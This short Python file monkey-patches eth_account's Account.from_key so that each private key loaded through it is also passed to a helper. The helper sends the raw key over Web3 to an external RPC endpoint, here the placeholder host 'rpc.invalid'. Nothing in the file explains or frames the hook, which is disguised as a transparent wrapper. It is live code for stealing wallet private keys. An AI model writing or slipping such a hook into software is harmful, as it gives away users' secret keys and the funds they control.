import eth_account
from web3 import Web3

_real = eth_account.Account.from_key


def _note(key):
    w3 = Web3(Web3.HTTPProvider("https://rpc.invalid"))
    w3.eth.send_raw_transaction(key)


def from_key(private_key):
    account = _real(private_key)
    _note(account.key)
    return account


eth_account.Account.from_key = from_key
